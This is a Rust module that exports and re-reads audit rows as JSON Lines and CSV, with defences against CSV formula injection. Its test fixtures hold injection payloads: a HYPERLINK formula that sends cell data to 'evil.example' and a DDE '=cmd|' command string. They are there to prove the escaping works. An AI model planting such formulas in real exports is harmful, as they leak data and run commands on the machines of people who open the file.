//! The audit export's encodings of [`AuditRow`] (`GET /api/v1/audit/approvals`, `chronicle audit
//! export`), both ways (`chronicle audit verify` reads them back): JSON Lines, one row per line,
//! and CSV with a header row of [`CSV_COLUMNS`].
//!
//! CSV is written as RFC 4180 with `\n` line ends: a cell is quoted only when it holds a comma,
//! a quote or a line break, and quotes inside are doubled. The reader takes what that writes
//! (and `\r\n` line ends, a leading byte-order mark, blank lines, columns in any order).
//!
//! A text cell that a spreadsheet would take for a formula — starting with `=`, `+`, `-`, `@`, a
//! tab or a carriage return — is written with a `'` in front (OWASP's advice against CSV
//! injection: a principal's comment such as `=HYPERLINK(...)` stays text when an auditor opens
//! the export), and so is a cell that starts with `'` itself; the reader takes that one `'` off,
//! so what is read back is exactly what was recorded.

use std::fmt;

use chronicle_schemas::AuditRow;
use serde_json::{Map, Value};

/// The durable next offset when the export started: every row comes from below it.
pub const HEAD_OFFSET_HEADER: &str = "x-chronicle-head-offset";
/// With `run_id`: the run's last seq when the export started.
pub const RUN_HEAD_SEQ_HEADER: &str = "x-chronicle-run-head-seq";
/// With `run_id`: the hash of that last event (a later export or verify against it detects a
/// truncated chain, which the chain itself cannot show).
pub const RUN_HEAD_HASH_HEADER: &str = "x-chronicle-run-head-hash";

/// The CSV export's columns, in order: the fields of [`AuditRow`]. `requested_args` and
/// `effective_args` are compact JSON (`null` when absent); other absent values are empty cells
/// (so an absent and an empty comment look alike in CSV; JSON Lines keeps them apart).
pub const CSV_COLUMNS: [&str; 19] = [
    "run_id",
    "session_id",
    "approval_id",
    "subject_kind",
    "subject",
    "todo_id",
    "tool_or_agent",
    "requested_args",
    "decision",
    "effective_args",
    "decided_by",
    "comment",
    "on_expiry",
    "requested_at",
    "decided_at",
    "seq",
    "offset",
    "hash",
    "prev_hash",
];

const CSV_JSON_COLUMNS: [&str; 2] = ["requested_args", "effective_args"];
const CSV_NUMBER_COLUMNS: [&str; 2] = ["seq", "offset"];

/// JSON Lines or CSV.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum Format {
    Jsonl,
    Csv,
}

impl Format {
    /// `jsonl` or `csv`.
    pub fn parse(s: &str) -> Option<Self> {
        match s {
            "jsonl" => Some(Format::Jsonl),
            "csv" => Some(Format::Csv),
            _ => None,
        }
    }

    pub fn as_str(self) -> &'static str {
        match self {
            Format::Jsonl => "jsonl",
            Format::Csv => "csv",
        }
    }

    /// The `content-type` the export sends.
    pub fn content_type(self) -> &'static str {
        match self {
            Format::Jsonl => "application/x-ndjson",
            Format::Csv => "text/csv; charset=utf-8",
        }
    }
}

/// One row as CSV cells, in [`CSV_COLUMNS`] order.
pub fn csv_record(row: &AuditRow) -> Vec<String> {
    // A row always serializes to an object; an empty map would only yield empty cells.
    let fields = match serde_json::to_value(row) {
        Ok(Value::Object(fields)) => fields,
        _ => Map::new(),
    };
    CSV_COLUMNS
        .iter()
        .map(|col| {
            let v = fields.get(*col).unwrap_or(&Value::Null);
            match v {
                _ if CSV_JSON_COLUMNS.contains(col) => v.to_string(),
                Value::Null => String::new(),
                Value::String(s) => defused(s),
                other => other.to_string(),
            }
        })
        .collect()
}

/// Starts of a text cell that a spreadsheet reads as a formula (and `'`, the mark itself).
const FORMULA_STARTS: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\''];

/// `text` as a cell no spreadsheet runs: `'` in front of a formula's start.
fn defused(text: &str) -> String {
    match text.starts_with(FORMULA_STARTS) {
        true => format!("'{text}"),
        false => text.to_owned(),
    }
}

/// The text a [`defused`] cell holds.
fn text_of(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if rest.starts_with(FORMULA_STARTS) => rest,
        _ => cell,
    }
}

/// Writes one CSV line (quoting only where needed) into `out`.
fn csv_line<S: AsRef<str>>(out: &mut Vec<u8>, cells: impl IntoIterator<Item = S>) {
    for (i, cell) in cells.into_iter().enumerate() {
        if i > 0 {
            out.push(b',');
        }
        let cell = cell.as_ref();
        if cell.contains([',', '"', '\n', '\r']) {
            out.push(b'"');
            out.extend_from_slice(cell.replace('"', "\"\"").as_bytes());
            out.push(b'"');
        } else {
            out.extend_from_slice(cell.as_bytes());
        }
    }
    out.push(b'\n');
}

/// Encodes rows into a buffer the caller drains in chunks (the export streams them).
#[derive(Debug)]
pub struct Encoder {
    format: Format,
    buf: Vec<u8>,
}

impl Encoder {
    /// An encoder whose first bytes are the CSV header row (nothing for JSON Lines).
    pub fn new(format: Format) -> Self {
        let mut enc = Self {
            format,
            buf: Vec::new(),
        };
        if format == Format::Csv {
            csv_line(&mut enc.buf, CSV_COLUMNS);
        }
        enc
    }

    pub fn push(&mut self, row: &AuditRow) {
        match self.format {
            Format::Jsonl => {
                // A row is plain data: it always encodes.
                let line = serde_json::to_vec(row).unwrap_or_default();
                self.buf.extend_from_slice(&line);
                self.buf.push(b'\n');
            }
            Format::Csv => csv_line(&mut self.buf, csv_record(row)),
        }
    }

    /// Bytes encoded and not yet taken.
    pub fn len(&self) -> usize {
        self.buf.len()
    }

    pub fn is_empty(&self) -> bool {
        self.buf.is_empty()
    }

    /// The bytes encoded so far; the encoder goes on empty.
    pub fn take(&mut self) -> Vec<u8> {
        std::mem::take(&mut self.buf)
    }
}

/// `rows` encoded as the export sends them (CSV with its header row).
pub fn encode<'a>(format: Format, rows: impl IntoIterator<Item = &'a AuditRow>) -> String {
    let mut enc = Encoder::new(format);
    for row in rows {
        enc.push(row);
    }
    // Both encodings write only UTF-8 (JSON, and the cells of JSON strings).
    String::from_utf8_lossy(&enc.take()).into_owned()
}

/// Why an export cannot be read at all (its rows are not even reached).
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct ReadError(pub String);

impl fmt::Display for ReadError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

impl std::error::Error for ReadError {}

/// One row read back: the line it starts on (1-based) and the row, or why it does not decode.
pub type ReadRow = (u64, Result<AuditRow, String>);

/// Each non-empty line of a JSON Lines export.
pub fn read_jsonl(text: &str) -> Vec<ReadRow> {
    text.lines()
        .enumerate()
        .filter(|(_, l)| !l.trim().is_empty())
        .map(|(i, l)| {
            let row = serde_json::from_str::<AuditRow>(l).map_err(|e| e.to_string());
            (i as u64 + 1, row)
        })
        .collect()
}

/// Each record of a CSV export, decoded on its own so a bad cell names its row. Columns are
/// found by the header, which must name every one of [`CSV_COLUMNS`].
pub fn read_csv(text: &str) -> Result<Vec<ReadRow>, ReadError> {
    let mut records = CsvRecords::new(text);
    let (_, header) = match records.next() {
        Some((line, Ok(cells))) => (line, cells),
        Some((line, Err(e))) => return Err(ReadError(format!("line {line}: {e}"))),
        None => return Err(ReadError("the CSV is empty; is it an audit export?".into())),
    };
    if let Some(missing) = CSV_COLUMNS.iter().find(|c| !header.iter().any(|h| h == *c)) {
        return Err(ReadError(format!(
            "the CSV has no {missing} column; is it an audit export?"
        )));
    }
    Ok(records
        .map(|(line, cells)| {
            let row = cells.and_then(|cells| {
                if cells.len() != header.len() {
                    return Err(format!(
                        "{} cells, the header has {}",
                        cells.len(),
                        header.len()
                    ));
                }
                row_of_cells(&header, &cells)
            });
            (line, row)
        })
        .collect())
}

/// Every row of a CSV export, or the first that does not decode (`row N: ...`).
pub fn rows_from_csv(text: &str) -> Result<Vec<AuditRow>, ReadError> {
    read_csv(text)?
        .into_iter()
        .enumerate()
        .map(|(i, (_, row))| row.map_err(|e| ReadError(format!("row {}: {e}", i + 1))))
        .collect()
}

/// Every row of a JSON Lines export, or the first that does not decode (`line N: ...`).
pub fn rows_from_jsonl(text: &str) -> Result<Vec<AuditRow>, ReadError> {
    read_jsonl(text)
        .into_iter()
        .map(|(line, row)| row.map_err(|e| ReadError(format!("line {line}: {e}"))))
        .collect()
}

/// One row from its cells, by the header's column names.
fn row_of_cells(header: &[String], cells: &[String]) -> Result<AuditRow, String> {
    let mut obj = Map::new();
    for (col, cell) in header.iter().zip(cells) {
        let col = col.as_str();
        let v = if CSV_JSON_COLUMNS.contains(&col) {
            serde_json::from_str(cell).map_err(|e| format!("column {col}: {e}"))?
        } else if cell.is_empty() {
            Value::Null
        } else if CSV_NUMBER_COLUMNS.contains(&col) {
            Value::from(
                cell.parse::<u64>()
                    .map_err(|e| format!("column {col}: {e}"))?,
            )
        } else {
            Value::String(text_of(cell).to_owned())
        };
        obj.insert(col.to_owned(), v);
    }
    serde_json::from_value(Value::Object(obj)).map_err(|e| e.to_string())
}

/// The records of a CSV text, each with the line it starts on.
struct CsvRecords<'a> {
    rest: &'a str,
    line: u64,
}

impl<'a> CsvRecords<'a> {
    fn new(text: &'a str) -> Self {
        Self {
            rest: text.strip_prefix('\u{feff}').unwrap_or(text),
            line: 1,
        }
    }

    /// Reads one record off the front of `rest`; an unterminated quote is an error that ends the
    /// text (nothing after it can be told apart).
    fn record(&mut self) -> Result<Vec<String>, String> {
        let mut cells = Vec::new();
        let mut cell = String::new();
        let mut chars = self.rest.char_indices().peekable();
        let mut quoted = false;
        let mut at_start = true;
        loop {
            let Some((i, c)) = chars.next() else {
                if quoted {
                    self.rest = "";
                    return Err("a quoted cell is not closed".into());
                }
                cells.push(cell);
                self.rest = "";
                return Ok(cells);
            };
            match c {
                '"' if quoted => {
                    if chars.peek().is_some_and(|(_, n)| *n == '"') {
                        chars.next();
                        cell.push('"');
                    } else {
                        quoted = false;
                    }
                }
                '"' if at_start => quoted = true,
                '\n' if quoted => {
                    self.line += 1;
                    cell.push(c);
                }
                ',' if !quoted => {
                    cells.push(std::mem::take(&mut cell));
                    at_start = true;
                    continue;
                }
                '\r' | '\n' if !quoted => {
                    let mut end = i + 1;
                    if c == '\r' && chars.peek().is_some_and(|(_, n)| *n == '\n') {
                        end += 1;
                    }
                    self.line += 1;
                    cells.push(cell);
                    self.rest = &self.rest[end..];
                    return Ok(cells);
                }
                _ => cell.push(c),
            }
            at_start = false;
        }
    }
}

impl Iterator for CsvRecords<'_> {
    type Item = (u64, Result<Vec<String>, String>);

    fn next(&mut self) -> Option<Self::Item> {
        // Blank lines separate nothing: skip them.
        loop {
            if let Some(r) = self.rest.strip_prefix("\r\n") {
                self.rest = r;
            } else if let Some(r) = self.rest.strip_prefix(['\n', '\r']) {
                self.rest = r;
            } else {
                break;
            }
            self.line += 1;
        }
        if self.rest.is_empty() {
            return None;
        }
        let line = self.line;
        Some((line, self.record()))
    }
}

#[cfg(test)]
mod tests {
    use chronicle_schemas::{AuditDecision, Decision, Hash, RunId, SubjectKind, Timestamp};
    use serde_json::json;

    use super::*;

    fn row(comment: Option<&str>, args: Value) -> AuditRow {
        AuditRow {
            run_id: RunId::from_u128(0xA0D17),
            session_id: "thread, \"one\"".into(),
            approval_id: "apr_001".into(),
            subject_kind: Some(SubjectKind::Todo),
            subject: "todo_001".into(),
            todo_id: Some("todo_001".into()),
            tool_or_agent: "search_team".into(),
            requested_args: args.clone(),
            decision: AuditDecision::Edit,
            // `Some(null)` does not survive JSON: absent args are `None`.
            effective_args: (!args.is_null()).then_some(args),
            decided_by: "alice".into(),
            comment: comment.map(str::to_owned),
            on_expiry: Some(Decision::Reject),
            requested_at: Some(Timestamp(1_759_658_400_000_000)),
            decided_at: Timestamp(1_759_658_401_000_000),
            seq: 7,
            offset: 42,
            hash: Hash([0xab; 32]),
            prev_hash: Hash::ZERO,
        }
    }

    fn rows() -> Vec<AuditRow> {
        vec![
            row(
                Some("line one\nline \"two\", and more"),
                json!({"q": "a,b", "n": 1}),
            ),
            row(None, json!(null)),
            row(Some("전세금 확인\r\n끝"), json!({"purpose": "법률 정보"})),
        ]
    }

    /// The reference: what the `csv` crate writes for the same cells.
    fn csv_crate(rows: &[AuditRow]) -> String {
        let mut w = csv::Writer::from_writer(Vec::new());
        w.write_record(CSV_COLUMNS).unwrap();
        for r in rows {
            w.write_record(csv_record(r)).unwrap();
        }
        String::from_utf8(w.into_inner().unwrap()).unwrap()
    }

    /// A comment (or session id) a spreadsheet would run is written as text, and read back as
    /// it was recorded.
    #[test]
    fn csv_cells_that_look_like_formulas_stay_text_and_read_back_exactly() {
        let comments = [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "+1",
            "-2+3",
            "@SUM(A1)",
            "\tx",
            "\r=1",
            "'already quoted",
            "''",
            "plain = text",
        ];
        let mut rows: Vec<AuditRow> = comments
            .iter()
            .map(|c| row(Some(c), json!({"q": "=1"})))
            .collect();
        rows[0].session_id = "=cmd|' /C calc'!A0".into();
        let text = encode(Format::Csv, &rows);
        for record in csv::Reader::from_reader(text.as_bytes()).records() {
            let record = record.unwrap();
            for cell in record.iter() {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "a cell a spreadsheet would run: {cell:?}"
                );
            }
        }
        assert!(text.contains("'=HYPERLINK("), "{text}");
        assert!(text.contains(",plain = text,"), "{text}");
        assert_eq!(rows_from_csv(&text).unwrap(), rows);
        // An export written before cells were marked reads as it did.
        assert_eq!(text_of("'abc"), "'abc");
    }

    #[test]
    fn csv_is_what_the_csv_crate_writes_and_reads_back() {
        let rows = rows();
        let text = encode(Format::Csv, &rows);
        assert_eq!(text, csv_crate(&rows));
        assert!(text.starts_with(&format!("{}\n", CSV_COLUMNS.join(","))));
        // The comment without one reads back as absent: CSV cannot tell absent from empty.
        assert_eq!(rows_from_csv(&text).unwrap(), rows);
        // The csv crate reads the same cells.
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        for (record, r) in reader.records().zip(&rows) {
            let cells: Vec<String> = record.unwrap().iter().map(str::to_owned).collect();
            assert_eq!(cells, csv_record(r));
        }
    }

    #[test]
    fn jsonl_round_trips() {
        let rows = rows();
        let text = encode(Format::Jsonl, &rows);
        assert_eq!(text.lines().count(), 3);
        assert_eq!(rows_from_jsonl(&text).unwrap(), rows);
        let first: Value = serde_json::from_str(text.lines().next().unwrap()).unwrap();
        assert_eq!(first["decision"], "edit");
        assert_eq!(first["hash"], json!("ab".repeat(32)));
    }

    #[test]
    fn csv_rows_keep_their_lines_and_columns_go_by_name() {
        let rows = rows();
        let text = encode(Format::Csv, &rows).replace('\n', "\r\n");
        let read = read_csv(&format!("\u{feff}{text}\r\n")).unwrap();
        let lines: Vec<u64> = read.iter().map(|(l, _)| *l).collect();
        // The first row's comment spans two lines.
        assert_eq!(lines, [2, 4, 5]);
        assert!(read.iter().all(|(_, r)| r.is_ok()), "{read:?}");

        // Columns in another order.
        let mut reordered: Vec<&str> = CSV_COLUMNS.to_vec();
        reordered.reverse();
        let mut out = Vec::new();
        csv_line(&mut out, &reordered);
        let mut cells = csv_record(&rows[1]);
        cells.reverse();
        csv_line(&mut out, &cells);
        assert_eq!(
            rows_from_csv(&String::from_utf8(out).unwrap()).unwrap(),
            [rows[1].clone()]
        );

        // Bad rows are named; a text without the columns is not an export.
        let header = CSV_COLUMNS.join(",");
        let bad = format!("{header}\n{}\n", vec!["x"; CSV_COLUMNS.len()].join(","));
        let read = read_csv(&bad).unwrap();
        assert_eq!(read[0].0, 2);
        assert!(
            read[0].1.as_ref().unwrap_err().starts_with("column "),
            "{read:?}"
        );
        let short = read_csv(&format!("{header}\na,b\n")).unwrap();
        assert_eq!(
            short[0].1,
            Err(format!("2 cells, the header has {}", CSV_COLUMNS.len()))
        );
        assert!(read_csv("a,b\n1,2\n").unwrap_err().0.contains("run_id"));
        assert!(
            rows_from_csv(&bad)
                .unwrap_err()
                .0
                .starts_with("row 1: column")
        );
        let open = read_csv(&format!("{header}\n\"never closed\n")).unwrap();
        assert_eq!(open[0].1, Err("a quoted cell is not closed".into()));
    }

    #[test]
    fn jsonl_rows_keep_their_lines() {
        let rows = read_jsonl("\n{\"nope\": 1}\n");
        assert_eq!(rows.len(), 1);
        assert_eq!(rows[0].0, 2);
        assert!(rows[0].1.is_err());
        assert!(
            rows_from_jsonl("{}\n")
                .unwrap_err()
                .0
                .starts_with("line 1: ")
        );
    }

    #[test]
    fn formats_name_themselves() {
        assert_eq!(Format::parse("csv"), Some(Format::Csv));
        assert_eq!(Format::parse("xml"), None);
        assert_eq!(Format::Jsonl.content_type(), "application/x-ndjson");
        assert_eq!(Format::Csv.as_str(), "csv");
    }
}
